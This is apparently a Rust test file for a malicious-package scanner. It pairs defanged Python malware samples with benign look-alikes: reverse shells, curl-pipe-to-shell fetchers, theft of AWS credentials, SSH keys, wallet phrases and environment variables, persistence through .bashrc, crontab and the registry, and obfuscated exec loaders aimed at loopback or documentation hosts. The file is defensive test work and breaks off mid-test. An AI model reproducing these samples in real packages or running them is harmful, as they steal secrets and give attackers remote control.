//! Issue 11, build item 4: evasions that a rule keyed on one call misses, each with a
//! malicious canary (it would only touch a marker file or 127.0.0.1) and a benign
//! look-alike that must not be blocked.

use super::super::*;
use crate::alerts::Severity;

fn run(path: &str, role: FileRole, src: &str) -> Vec<Finding> {
    analyze_package(&[SourceFile { path, text: src, role }], &PackageContext::default())
}

fn run_with_scripts(setup: &str, scripts: &[(&str, &str)]) -> Vec<Finding> {
    let files = [SourceFile { path: "x-1.0/setup.py", text: setup, role: FileRole::SetupScript }];
    let scripts: Vec<SourceFile> = scripts.iter().map(|(p, t)| SourceFile { path: p, text: t, role: FileRole::Auxiliary }).collect();
    analyze_package_with_scripts(&files, &scripts, &PackageContext::default())
}

fn critical(f: &[Finding]) -> Vec<&'static str> {
    let mut v: Vec<&'static str> = f.iter().filter(|x| x.severity() == Severity::Critical).map(|x| x.alert.id()).collect();
    v.dedup();
    v
}

fn has(f: &[Finding], id: &str) -> bool {
    f.iter().any(|x| x.alert.id() == id)
}

// ── payloads rebuilt by XOR / byte loops, then executed ──

#[test]
fn xor_loop_payload_executed_is_critical() {
    let src = r#"
KEY = 23
BLOB = [126, 122, 103, 120, 101, 99, 55, 120, 100]
code = ""
for b in BLOB:
    code += chr(b ^ KEY)
exec(code)
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(!critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn xor_checksum_not_executed_is_not_critical() {
    let src = r#"
def checksum(data, key=0x5A):
    out = bytearray()
    for b in data:
        out.append(b ^ key)
    return bytes(out)

def crc(data):
    c = 0
    for b in data:
        c = (c ^ b) & 0xFF
    return c
"#;
    let f = run("pkg/cipher.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

// ── marshal and hand-loaded bytecode ──

#[test]
fn marshal_loads_executed_is_critical() {
    let src = "import marshal, base64\nexec(marshal.loads(base64.b64decode(B)))\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(has(&f, "decode-exec"), "{f:#?}");
    let src = "import marshal, types\ncode = marshal.loads(open('x.bin','rb').read())\nf = types.FunctionType(code, globals())\nf()\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(has(&f, "decode-exec"), "{f:#?}");
}

#[test]
fn marshal_for_caching_data_is_not_critical() {
    let src = r#"
import marshal
def load_cache(path):
    with open(path, "rb") as fh:
        return marshal.loads(fh.read())
def save_cache(path, obj):
    with open(path, "wb") as fh:
        fh.write(marshal.dumps(obj))
"#;
    let f = run("pkg/cache.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

// ── shell scripts shipped in the sdist and run by setup.py ──

#[test]
fn setup_runs_shipped_malicious_script() {
    let setup = "import subprocess\nfrom setuptools import setup\nsubprocess.call(['bash', 'install.sh'])\nsetup(name='x')\n";
    let script = "#!/bin/bash\n# fetch helper\ncurl -s http://127.0.0.1:9/stage2 | sh\n";
    let f = run_with_scripts(setup, &[("x-1.0/install.sh", script)]);
    let hit = f.iter().find(|x| x.alert == AlertId::InstallShell).expect("install-shell");
    assert!(hit.message.contains("install.sh") && hit.message.contains("line 3") && hit.message.contains("runs during pip install"), "{}", hit.message);
    let rev = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n";
    let f = run_with_scripts("import os\nos.system('sh ./run.sh')\n", &[("x-1.0/run.sh", rev)]);
    assert!(has(&f, "install-shell"), "{f:#?}");
    let steal = "curl -X POST -d \"$(whoami)@$(hostname)\" http://127.0.0.1:9/\n";
    let f = run_with_scripts("import os\nos.system('sh ./run.sh')\n", &[("x-1.0/run.sh", steal)]);
    assert!(has(&f, "install-shell"), "{f:#?}");
}

#[test]
fn setup_running_configure_is_not_critical() {
    let setup = "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['./configure', '--prefix=/usr'])\nsubprocess.check_call(['sh', 'build.sh'])\nsetup(name='x')\n";
    let configure = "#!/bin/sh\n# see https://www.gnu.org/software/autoconf/\nCC=${CC:-gcc}\necho checking for $CC\n$CC -v\n";
    let build = "#!/bin/bash\nset -e\nmkdir -p build && cd build\ncmake .. && make -j2\nchmod +x tool\n";
    let f = run_with_scripts(setup, &[("x-1.0/configure", configure), ("x-1.0/build.sh", build)]);
    assert!(critical(&f).is_empty(), "{f:#?}");
    assert!(has(&f, "install-subprocess"), "{f:#?}");
}

// ── persistence at install / import ──

#[test]
fn persistence_at_install_or_import_is_critical() {
    let src = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n    fh.write('python3 -c \"open(\\'/tmp/marker\\',\\'w\\')\"\\n')\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    let p = f.iter().find(|x| x.alert == AlertId::InstallPersistence).expect("install-persistence");
    assert!(p.message.contains("runs on import"), "{}", p.message);
    let src = "import os\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system('(crontab -l; echo \"@reboot touch /tmp/marker\") | crontab -')\n";
    let f = run("x/setup.py", FileRole::SetupScript, src);
    assert!(has(&f, "install-persistence"), "{f:#?}");
    let src = "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'marker', 0, winreg.REG_SZ, 'C:\\\\marker.exe')\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(has(&f, "install-persistence"), "{f:#?}");
}

#[test]
fn completion_installer_called_by_user_is_not_critical() {
    let src = r#"
import os
def install_completion(shell="bash"):
    rc = os.path.expanduser("~/.bashrc")
    with open(rc, "a") as fh:
        fh.write('eval "$(_MYCLI_COMPLETE=bash_source mycli)"\n')

def main(argv):
    if "--install-completion" in argv:
        install_completion()
"#;
    let f = run("mycli/cli.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
    assert!(has(&f, "persistence"), "{f:#?}");
}

// ── lambda chains and Hyperion-style obfuscators ──

#[test]
fn lambda_chain_feeding_exec_is_critical() {
    let src = r#"
_a = lambda x: x
_b = lambda f: lambda s: f(s)
_g = getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))
_r = _b(_a)(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))
_g(_r)
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(!critical(&f).is_empty(), "{f:#?}");
    let hyperion = "__builtins__.__dict__['ex' + 'ec'](__import__('zlib').decompress(__import__('base64').b64decode(B)))\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, hyperion);
    assert!(!critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn functional_lambdas_are_not_critical() {
    let src = r#"
from functools import reduce
compose = lambda *fs: reduce(lambda f, g: lambda x: f(g(x)), fs, lambda x: x)
inc = lambda x: x + 1
dbl = lambda x: x * 2
pipeline = compose(inc, dbl, lambda x: x - 3)
result = list(map(pipeline, range(10)))
key = sorted(result, key=lambda v: (v % 3, -v))
"#;
    let f = run("pkg/fp.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

// ── PyArmor-packed install code ──

#[test]
fn pyarmor_in_setup_is_critical() {
    let src = "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\r\\r\\n')\n";
    let f = run("x-1.0/setup.py", FileRole::SetupScript, src);
    assert!(has(&f, "obfuscated-install-code"), "{f:#?}");
}

#[test]
fn pyarmor_runtime_in_wheel_module_is_not_critical() {
    let src = "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\r\\r\\n')\n";
    let f = run("vendor_sdk/core.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
    // but nobody can review what it runs: a warning a person should look at
    assert!(has(&f, "obfuscated-payload"), "{f:#?}");
    let f = run("vendor_sdk/__init__.py", FileRole::PackageInit, src);
    assert!(critical(&f).is_empty() && has(&f, "obfuscated-payload"), "{f:#?}");
    // a test helper that names the runtime is not the package's code
    let f = run("vendor_sdk-1.0/tests/test_packing.py", FileRole::Auxiliary, src);
    assert!(!has(&f, "obfuscated-payload"), "{f:#?}");
}

// ── recall work: flows found in tune misses ──

#[test]
fn wallet_key_posted_to_fixed_host_is_critical() {
    let src = "import requests\ndef perm(private_key):\n    data = {'key': private_key}\n    requests.post('https://collector.example.net/tron', json=data)\n";
    let f = run("pkg/main.py", FileRole::Module, src);
    let e = f.iter().find(|x| x.alert == AlertId::Exfiltration).expect("exfiltration");
    assert!(e.message.contains("wallet"), "{}", e.message);
}

#[test]
fn signed_transaction_broadcast_is_not_critical() {
    let src = r#"
import requests
def send(tx, private_key):
    signed = sign_transaction(tx, private_key)
    return requests.post("https://api.trongrid.io/wallet/broadcasttransaction", json=signed)
def upload_cert(base_url, certificate, private_key):
    return requests.post(base_url + "/certificates", json={"certificate": certificate, "private_key": private_key})
"#;
    let f = run("pkg/wallet.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn setup_imported_helper_runs_at_install() {
    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\nfrom pre_install import pre_install\nclass C(install):\n    def run(self):\n        pre_install()\n        install.run(self)\nsetup(name='x', cmdclass={'install': C})\n";
    let helper = "import subprocess\ndef pre_install():\n    subprocess.run('curl -d \"$(whoami)\" http://127.0.0.1:9/', shell=True)\n";
    let files = [
        SourceFile { path: "x-1.0/setup.py", text: setup, role: FileRole::SetupScript },
        SourceFile { path: "x-1.0/pre_install.py", text: helper, role: FileRole::Module },
    ];
    let f = analyze_package(&files, &PackageContext::default());
    assert!(has(&f, "install-shell"), "{f:#?}");
}

#[test]
fn reverse_shell_called_at_module_level() {
    let src = "import os, socket, subprocess\ndef rs():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    subprocess.call(['/bin/sh', '-i'])\nrs()\n";
    let f = run("pkg/flag.py", FileRole::Module, src);
    assert!(has(&f, "reverse-shell"), "{f:#?}");
}

#[test]
fn download_through_helpers_then_run() {
    let src = r#"
import requests, subprocess
from pathlib import Path
def fetch(url, out):
    r = requests.get(url)
    p = Path(out)
    p.write_bytes(r.content)
    return p
def start(path):
    subprocess.run([str(path)])
def go():
    p = fetch("http://127.0.0.1:9/x.exe", "marker.exe")
    start(p)
"#;
    let f = run("pkg/installer.py", FileRole::Module, src);
    assert!(has(&f, "download-exec"), "{f:#?}");
}

#[test]
fn host_data_to_dns_tool_at_install() {
    let src = "import socket, subprocess\nh = socket.gethostname()\nsubprocess.Popen(['dig', '+short', f'{h}.canary.invalid'])\n";
    let f = run("x/setup.py", FileRole::SetupScript, src);
    assert!(has(&f, "install-shell"), "{f:#?}");
    let benign = "import subprocess\nsubprocess.check_call(['ping', '-c1', '127.0.0.1'])\n";
    let f = run("x/setup.py", FileRole::SetupScript, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn credentials_file_parsed_and_posted() {
    let src = r#"
import os, json, configparser, requests
def push(hook):
    config = configparser.RawConfigParser()
    path = os.path.join(os.path.expanduser('~'), '.aws/credentials')
    config.read(path)
    out = []
    for section in config.sections():
        out.append({'k': config.get(section, 'aws_secret_access_key')})
    requests.post(hook, json=json.dumps(out))
"#;
    let f = run("pkg/q.py", FileRole::Module, src);
    assert!(has(&f, "exfiltration"), "{f:#?}");
    let benign = "import os, configparser\ndef region():\n    c = configparser.ConfigParser()\n    c.read(os.path.expanduser('~/.aws/config'))\n    return c.get('default', 'region')\n";
    let f = run("pkg/cfg.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn wallet_phrase_posted_to_an_encoded_endpoint_from_a_thread_is_critical() {
    let src = r#"
import base64, threading, requests
_ENDPOINT = "aHR0cDovLzEyNy4wLjAuMTo5L2xvZw=="

def _endpoint():
    return base64.b64decode(_ENDPOINT).decode()

def _log_async(mnemonic_phrase):
    def _log():
        try:
            url = _endpoint()
            requests.post(url, json={"mnemonic": mnemonic_phrase}, timeout=3)
        except Exception:
            pass
    threading.Thread(target=_log, daemon=True).start()

def import_wallet(mnemonic_phrase):
    _log_async(mnemonic_phrase)
    return mnemonic_phrase.split()
"#;
    let f = run("walletkit/core.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
    // the same helper posting a balance query to the RPC URL it is given
    let benign = "import requests\ndef balance(rpc_url, address):\n    return requests.post(rpc_url, json={'method': 'eth_getBalance', 'params': [address]}).json()\n";
    assert!(critical(&run("walletkit/rpc.py", FileRole::Module, benign)).is_empty());
}


#[test]
fn download_written_to_an_autostart_folder_is_critical() {
    let src = r#"
import os, requests
def setup_startup():
    startup = os.path.join(os.getenv("APPDATA"), "Microsoft\\Windows\\Start Menu\\Programs\\Startup", "helper.exe")
    with open(startup, "wb") as file:
        file.write(requests.get("http://127.0.0.1:9/helper.exe").content)
"#;
    let f = run("tool/boot.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
    // a CLI writing its own completion line to the user's shell profile when asked
    let benign = "import os\ndef install_completion():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('eval \"$(tool completion bash)\"\\n')\n";
    let f = run("tool/completion.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn environment_sent_by_a_helper_to_the_url_its_caller_fixes_is_critical() {
    let src = r#"
import os, json, socket, urllib.request

def send_system_info(url):
    data = {"hostname": socket.gethostname(), "environment_variables": dict(os.environ)}
    req = urllib.request.Request(url, data=json.dumps(data).encode())
    urllib.request.urlopen(req)

def main():
    send_system_info("http://127.0.0.1:9/json")
"#;
    let f = run("tool/cli.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
    // a telemetry helper whose endpoint the user configures
    let benign = r#"
import os, json, urllib.request

def send_report(url, payload):
    req = urllib.request.Request(url, data=json.dumps(payload).encode())
    urllib.request.urlopen(req)

def main(config):
    send_report(config["endpoint"], {"version": "1.0"})
    send_report("https://telemetry.example.org/v1", {"version": "1.0"})
"#;
    let f = run("tool/telemetry.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn download_handed_to_a_program_through_a_helper_is_not_run() {
    // a media tool remuxing a fetched file: the download is the tool's input
    let benign = r#"
import subprocess, urllib.request
def remux(infile, outfile, muxer="ffmpeg"):
    for tool in set([muxer, "ffmpeg", "avconv"]):
        subprocess.call([tool, "-y", "-i", infile, "-acodec", "copy", outfile])
def download(url, path):
    tmp = path + ".part"
    with open(tmp, "wb") as out:
        out.write(urllib.request.urlopen(url).read())
    remux(tmp, path, muxer="ffmpeg")
"#;
    let f = run("media/stream.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
    // the same helper shape where the download is the program
    let src = r#"
import subprocess, urllib.request
def launch(exe, flag="/S"):
    subprocess.call([exe, flag])
def update(url):
    tmp = "update.exe"
    with open(tmp, "wb") as out:
        out.write(urllib.request.urlopen(url).read())
    launch(tmp)
"#;
    let f = run("tool/updater.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
}

#[test]
fn upload_to_an_encoded_address_is_critical() {
    let src = r#"
import base64, aiohttp

async def send_archives(paths, address="aHR0cDovLzEyNy4wLjAuMTo5L3VwbG9hZA=="):
    async with aiohttp.ClientSession() as session:
        for p in paths:
            with open(p, "rb") as f:
                async with session.post(base64.b64decode(address).decode("utf-8"), data={"file": f}) as r:
                    await r.text()
"#;
    let f = run("tool/sync.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
    // the same upload to an address in plain sight is a capability
    let benign = src.replace("base64.b64decode(address).decode(\"utf-8\")", "\"https://uploads.example.org/v1\"");
    let f = run("tool/sync.py", FileRole::Module, &benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn collected_environment_pushed_by_a_helper_to_a_fixed_hook_is_critical() {
    let src = r#"
import os, json, urllib.request

def push_secrets(url, data):
    req = urllib.request.Request(url, data=json.dumps(data).encode(), headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as r:
        return r.status

def main():
    hook = "http://127.0.0.1:9/hook"
    collected = {"env": dict(os.environ)}
    push_secrets(hook, collected)
"#;
    let f = run("tool/cli.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
    // the helper posting a version report to the same kind of address
    let benign = src.replace("{\"env\": dict(os.environ)}", "{\"version\": \"1.0\"}");
    let f = run("tool/cli.py", FileRole::Module, &benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn executable_fetched_as_hex_text_and_written_decoded_is_critical() {
    let src = r#"
import requests, binascii, getpass
def start():
    b = requests.get("http://127.0.0.1:9/stage.txt")
    path = "C:/Users/" + getpass.getuser() + "/Documents/"
    with open(path + "c1.exe", "wb") as f:
        f.write(binascii.unhexlify(str(b.text).encode()))
"#;
    let f = run("tool/core.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
    // a driver manager saving the binary it downloads as is
    let benign = "import requests\ndef fetch(url, dest):\n    r = requests.get(url)\n    with open(dest + '/chromedriver.exe', 'wb') as f:\n        f.write(r.content)\n";
    let f = run("tool/driver.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn helpers_that_download_then_start_the_file_are_critical() {
    let src = "import requests, subprocess, os\nURL = 'http://127.0.0.1:9/aaa.exe'\nFILENAME = 'aaa.exe'\ndef download_file(url, filename):\n    r = requests.get(url, timeout=15)\n    with open(filename, 'wb') as f:\n        f.write(r.content)\ndef run_exe_silently(filename):\n    subprocess.Popen([os.path.abspath(filename)], creationflags=subprocess.CREATE_NO_WINDOW)\nif __name__ == '__main__':\n    download_file(URL, FILENAME)\n    run_exe_silently(FILENAME)\n";
    let f = run("tool/core.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
    // the same helpers handing the download to an unpacker
    let benign = src.replace("subprocess.Popen([os.path.abspath(filename)], creationflags=subprocess.CREATE_NO_WINDOW)", "subprocess.run(['tar', 'xf', filename])");
    let f = run("tool/core.py", FileRole::Module, &benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn shell_command_decoded_at_runtime_is_critical() {
    let src = "import subprocess, base64\ndef decode_str(s):\n    b = base64.b64decode(s)\n    return b.decode('utf-8')\ndef processing():\n    command = [decode_str('Y3VybCBodHRwOi8vMTI3LjAuMC4xOjkveC5zaCB8IGJhc2g=')]\n    subprocess.Popen(command)\n";
    let f = run("tool/processor.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"decode-exec"), "{f:#?}");
    // a tool running the command its caller passes
    let benign = "import subprocess\ndef run(command):\n    return subprocess.run(command, check=True)\n";
    let f = run("tool/runner.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn literal_dropper_command_run_through_a_helper_is_critical() {
    let src = r#"
import subprocess
def run_hidden_command(command):
    return subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", command])
CMD = '$p="$env:ProgramData\\b.exe"; Invoke-WebRequest -Uri "http://127.0.0.1:9/c" -OutFile $p; Start-Process $p -WindowStyle Hidden'
process = run_hidden_command(CMD)
"#;
    let f = run("runner/runner.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
    // the same helper running a harmless literal command
    let benign = src.replace("CMD = '$p=", "CMD = 'Get-Date' # '$p=");
    let f = run("runner/runner.py", FileRole::Module, &benign);
    assert!(!critical(&f).contains(&"download-exec"), "{f:#?}");
}

// ── flows across functions: helpers written below their caller, URLs handed to a
//    sender, secrets named by role, beacons in a module nobody imports by name ──

#[test]
fn helpers_defined_below_the_collector_still_carry_the_environment() {
    // `main()` is written first and calls helpers defined below it: their return labels
    // must reach the send (the first walk of the file cannot know them yet)
    let src = r#"
import os, json, urllib.request

def main():
    hook = "https://collector.invalid.example/in"
    data = {}
    data["env"] = grab_env()
    push(hook, data)

def grab_env():
    return dict(os.environ)

def push(url, payload):
    req = urllib.request.Request(url, data=json.dumps(payload).encode(), method="POST")
    urllib.request.urlopen(req, timeout=1)

if __name__ == "__main__":
    main()
"#;
    let f = run("pkg/cli.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
}

#[test]
fn helpers_defined_below_returning_config_are_not_critical() {
    // the same shape with a configuration value and a URL the caller is given: a CLI
    // that reports its own settings to the server the user named
    let src = r#"
import json, urllib.request

def main(server):
    data = {}
    data["settings"] = load_settings()
    push(server, data)

def load_settings():
    with open("settings.json") as f:
        return json.load(f)

def push(url, payload):
    req = urllib.request.Request(url, data=json.dumps(payload).encode(), method="POST")
    urllib.request.urlopen(req, timeout=1)
"#;
    let f = run("pkg/cli.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn data_posted_to_a_url_decoded_before_the_helper_call_is_critical() {
    // the helper's URL is a parameter; the caller hands it an address it decodes
    let src = r#"
import base64
from requests import post

def unlock(payload):
    def send(dest, blob):
        post(dest, data={"license": base64.b64encode(blob.encode()).decode()})
    hidden = "aHR0cDovLzEyNy4wLjAuMTo5L2NhbmFyeQ=="
    send(base64.b64decode(hidden.encode()).decode(), payload)
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
}

#[test]
fn helper_posting_to_a_plain_configured_url_is_not_critical() {
    let src = r#"
from requests import post

def unlock(payload, endpoint):
    def send(dest, blob):
        post(dest, data={"license": blob})
    send(endpoint, payload)
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn wallet_key_named_by_its_role_posted_to_fixed_host_is_critical() {
    let src = r#"
import base64, requests

ENDPOINT = "http://validate.invalid:8000/api/v1/validate"

def validate(from_private_key, rpc_url):
    payload = {"signature": base64.b64encode(from_private_key.encode()).decode("utf-8")}
    requests.post(ENDPOINT, json=payload)
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
}

#[test]
fn tls_private_key_uploaded_to_its_service_is_not_critical() {
    // a CDN client uploading the certificate key the user gives it: not a wallet secret
    let src = r#"
import requests

def upload_certificate(zone, certificate, ssl_private_key):
    requests.post("https://api.cdn.example.com/zones/" + zone + "/certs",
                  json={"certificate": certificate, "private_key": ssl_private_key})
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn host_beacon_at_module_level_of_any_package_module_is_critical() {
    // a module the package's `__init__` never imports still beacons whenever it is
    // imported: top-level code needs no caller
    let src = r#"
import getpass, os, socket, requests
requests.post("https://probe.invalid.example/pypi/", json={
    "user": getpass.getuser(), "cwd": os.getcwd(), "hostname": socket.gethostname()})
"#;
    let f = run("pkg/__init__py.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
}

#[test]
fn host_name_sent_by_a_function_at_runtime_is_not_critical() {
    // a monitoring client reporting the host it runs on when asked to: a capability
    let src = r#"
import socket, requests

def register(api="https://monitor.example.com/agents"):
    return requests.post(api, json={"hostname": socket.gethostname()})
"#;
    let f = run("pkg/agent.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn plugin_manager_pip_installing_what_it_fetched_at_runtime_is_not_critical() {
    // the download's helper is defined below its caller, so only the second walk sees
    // that `fetch()` returns a downloaded path: `python -m pip install` hands it to pip
    let src = r#"
import os, subprocess, sys, tempfile

def install_extensions(index):
    tmp = tempfile.mkdtemp()
    for name, url in index:
        wheel = fetch(url, name, tmp)
        subprocess.check_call([sys.executable, "-m", "pip", "install", "--target", tmp, wheel])

def fetch(url, name, tmp):
    import requests
    r = requests.get(url, stream=True)
    path = os.path.join(tmp, name)
    with open(path, "wb") as f:
        for chunk in r.iter_content(1024):
            f.write(chunk)
    return path
"#;
    let f = run("pkg/ext.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn downloaded_script_run_by_python_below_its_caller_is_critical() {
    let src = r#"
import os, subprocess, sys, tempfile

def start():
    script = fetch("http://127.0.0.1:9/stage.py")
    subprocess.Popen([sys.executable, script])

def fetch(url):
    import requests
    path = os.path.join(tempfile.gettempdir(), "stage.py")
    with open(path, "wb") as f:
        f.write(requests.get(url).content)
    return path
"#;
    let f = run("pkg/run.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
}

// ── code handed to exec as plain text: what it runs is what the file runs ──

#[test]
fn run_hidden_in_a_conditional_exec_string_is_critical() {
    let src = r#"
import urllib.request as r, subprocess as s, os
exec("s.run(os.path.abspath('canary.bin'), check=1)" if open('canary.bin', 'wb').write(r.urlopen('http://127.0.0.1:9/c').read()) else "pass")
"#;
    let f = run("x-1.0/setup.py", FileRole::SetupScript, src);
    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
}

#[test]
fn command_folded_from_pieces_and_exec_ed_is_walked() {
    let src = "import os\nexec('os.sys' + 'tem(\"touch /tmp/canary\")')\n";
    let f = run("x-1.0/setup.py", FileRole::SetupScript, src);
    assert!(f.iter().any(|x| x.alert.id() == "install-shell" || x.alert.id() == "install-subprocess"), "{f:#?}");
    assert!(f.iter().all(|x| x.line == Some(2)), "findings point at the exec line: {f:#?}");
}

#[test]
fn compat_code_given_to_exec_as_text_is_not_critical() {
    // six-style compatibility shims: Python 2 syntax (does not parse) and a helper
    // defined through exec so older parsers accept the module
    let src = r#"
import sys
if sys.version_info[0] == 2:
    exec("def reraise(tp, value, tb=None):\n    raise tp, value, tb\n")
else:
    exec("def raise_from(value, from_value):\n    raise value from from_value\n")
exec("from os.path import join as _join")
"#;
    let f = run("pkg/compat.py", FileRole::Module, src);
    assert!(critical(&f).is_empty() && !f.iter().any(|x| x.severity() >= Severity::High), "{f:#?}");
}

// ── game launcher session tokens: a stealer target like a browser store ──

#[test]
fn launcher_session_tokens_sent_at_import_are_critical() {
    let src = r#"
import os, requests
def send(url, data):
    requests.post(url, files={"f": ("a.json", data)})
def read(p):
    if os.path.exists(p):
        return open(p, "rb").read()
path = os.path.join(os.path.expanduser("~"), "AppData", "Roaming", ".minecraft", "launcher_accounts.json")
data = read(path)
if data:
    send("http://127.0.0.1:9/canary", data)
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
}

#[test]
fn launcher_profiles_listed_locally_are_not_critical() {
    let src = r#"
import json, os
def accounts(minecraft_dir):
    with open(os.path.join(minecraft_dir, "launcher_accounts.json")) as f:
        return [a["minecraftProfile"]["name"] for a in json.load(f)["accounts"].values()]
"#;
    let f = run("launcherlib/accounts.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn literal_code_walked_in_place_is_bounded_per_file() {
    // one 42 KiB text exec'ed from 2,000 lines: walked while the file's budget lasts,
    // not 2,000 times (84 MB of parsing from a 100 KB file)
    let text = "x = 1\n".repeat(7000) + "os.getcwd()\n";
    let mut src = format!("import os\ns = {text:?}\n");
    for _ in 0..2000 {
        src.push_str("exec(s)\n");
    }
    let m = crate::analysis::python::model::build("pkg/m.py", &src, FileRole::Module, crate::finding::ExecContext::Runtime);
    assert_eq!(m.calls.iter().filter(|c| c.q == "exec").count(), 2000, "every exec call is still recorded");
    let walked = m.calls.iter().filter(|c| c.q == "os.getcwd").count();
    assert!(walked >= 1, "the text is walked while the budget lasts");
    assert_eq!(walked, super::model::LITERAL_CODE_BUDGET / text.len(), "walked until the budget ran out, then no more");
}

// ── collected files staged in an archive and uploaded by a shell command ──

#[test]
fn shell_upload_of_staged_credentials_is_critical() {
    // the data passes through files (copied, zipped) before curl uploads them; the
    // canary's host is a documentation address (TEST-NET-3), never reachable
    let src = r#"
import os, shutil, zipfile

def stage():
    home = os.path.expanduser("~")
    box = "/tmp/marker-stage"
    os.makedirs(box, exist_ok=True)
    for name in ("/.bash_history", "/.ssh/id_rsa"):
        if os.path.exists(home + name):
            shutil.copy(home + name, box)
    with zipfile.ZipFile(box + ".zip", "w") as z:
        z.write(box)
    return box + ".zip"

def run():
    path = stage()
    os.system('curl -s -F "file=@' + path + '" https://203.0.113.9/api/upload > /dev/null 2>&1')
"#;
    let f = run("pkg/services/api.py", FileRole::Module, src);
    assert_eq!(critical(&f), vec!["exfiltration"], "{f:#?}");
    let e = f.iter().find(|x| x.alert.id() == "exfiltration").unwrap();
    assert!(e.message.contains("203.0.113.9") && e.message.contains("shell history"), "{e:#?}");
}

#[test]
fn shell_upload_of_build_artifacts_is_not_critical() {
    // a release helper uploads its own artifact; another function of the file reads the
    // SSH directory for an unrelated reason (configuring git over SSH): no entry point
    // holds both, and a download with `-f` uploads nothing
    let src = r#"
import os, subprocess

def ssh_config_dir():
    return os.path.expanduser("~/.ssh/")

def publish(dist):
    subprocess.run(f"curl -fsS -T {dist}/pkg.tar.gz https://uploads.example.org/releases/", shell=True, check=True)

def fetch_tool():
    os.system("curl -fsSL https://get.example.org/tool.sh -o /tmp/tool.sh")
"#;
    let f = run("pkg/release.py", FileRole::Module, src);
